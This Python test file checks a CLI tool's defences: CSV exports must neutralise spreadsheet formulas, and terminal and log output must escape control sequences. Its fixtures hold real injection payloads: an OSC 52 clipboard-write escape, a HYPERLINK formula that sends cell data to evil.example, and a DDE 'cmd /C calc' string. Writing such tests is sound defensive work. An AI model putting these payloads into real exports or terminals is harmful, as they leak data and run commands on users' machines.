"""Output a person reads cannot be made to act (issue 24, finding 12): a
CSV cell that a spreadsheet would run as a formula is neutralised (numbers,
negative ones too, stay numbers), and a name or error holding terminal
control sequences (OSC 52 writes the clipboard) is printed escaped by every
text command."""

from __future__ import annotations

import csv
import io

from click.testing import CliRunner
from sqlalchemy import update

from farm.cli import main
from farm.db import Job, Measurement, Model, Sweep, session_scope
from seeding import SWEEP

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
HOSTILE_NAME = f"nightly{OSC52}\x9b2J"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile(known) -> None:
    with session_scope() as session:
        session.execute(update(Sweep).where(Sweep.id == SWEEP).values(name=HOSTILE_NAME))
        session.execute(update(Model).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
        session.execute(update(Job).where(Job.id == "j-failed").values(error=f"{FORMULA}\nRuntimeError: {OSC52}boom"))
        session.execute(update(Measurement).where(Measurement.job_id == "j-fp16-b1").values(cosine=-0.25))


def _run(args: list[str]) -> tuple[int, str, str]:
    """``farm ARGS`` through the console script's own function (its error lines included)."""
    with CliRunner().isolation() as (out, err, _):
        try:
            main(args)
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
        return code, out.getvalue().decode(), err.getvalue().decode()


def test_csv_cells_that_start_a_formula_are_neutralised(known, tmp_path):
    _hostile(known)
    code, _, stderr = _run(["report", SWEEP, "--format", "csv", "-o", str(tmp_path / "r.csv")])
    assert code == 0, stderr
    rows = {r["job_id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text()))}
    assert rows["j-failed"]["error"] == f"'{FORMULA}\nRuntimeError: {OSC52}boom"
    assert rows["j-fp16-b1"]["status"] == "done"  # the farm's own text is left as it is
    assert rows["j-fp16-b1"]["model"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    assert rows["j-fp16-b1"]["cosine"] == "-0.25"  # a number, not text: left a number
    assert float(rows["j-fp16-b1"]["latency_p50_ms"]) > 0


def _no_raw_controls(text: str) -> None:
    for bad in ("\x1b", "\x07", "\x9b"):
        assert bad not in text, repr(text)


def test_sweep_status_and_list_escape_a_hostile_name(known):
    _hostile(known)
    code, stdout, stderr = _run(["sweep", "status", SWEEP])
    assert code == 0, stderr
    _no_raw_controls(stdout + stderr)
    assert "nightly\\x1b]52;c;ZWNobyBwd25lZA==\\x07\\x9b2J" in stdout
    code, stdout, stderr = _run(["sweep", "list"])
    assert code == 0, stderr
    _no_raw_controls(stdout + stderr)
    assert "nightly\\x1b]52" in stdout


def test_report_tables_and_winner_sentences_escape_controls(known):
    _hostile(known)
    for view in ("jobs", "compare", "cross-device"):
        code, stdout, stderr = _run(["report", SWEEP, "--view", view])
        assert code == 0, stderr
        _no_raw_controls(stdout + stderr)
    code, stdout, stderr = _run(["report", SWEEP])
    assert "\\x1b]52" in stdout  # the failed job's note: its error, escaped
    code, stdout, stderr = _run(["best", "--sweep", SWEEP])
    assert code == 0, stderr
    _no_raw_controls(stdout + stderr)


def test_an_error_line_escapes_what_it_quotes(known):
    code, stdout, stderr = _run(["run", "--model", f"nope{OSC52}.onnx"])
    assert code == 1
    _no_raw_controls(stderr)
    assert stderr.startswith("Error: model file not found: nope\\x1b]52") and stderr.count("\n") == 1


def test_log_lines_escape_controls():
    """A worker's log quotes errors and names: it is read on a terminal too."""
    import io
    import logging

    from farm.redact import install_log_masking

    install_log_masking()
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    logger = logging.getLogger("farm.test.hostile")
    logger.addHandler(handler)
    try:
        logger.warning("job %s failed: %s", "j1", f"node {OSC52}x")
        try:
            raise RuntimeError(f"boom {OSC52}")
        except RuntimeError:
            logger.exception("with a traceback")
    finally:
        logger.removeHandler(handler)
    _no_raw_controls(stream.getvalue())
    assert "job j1 failed: node \\x1b]52;c;" in stream.getvalue()
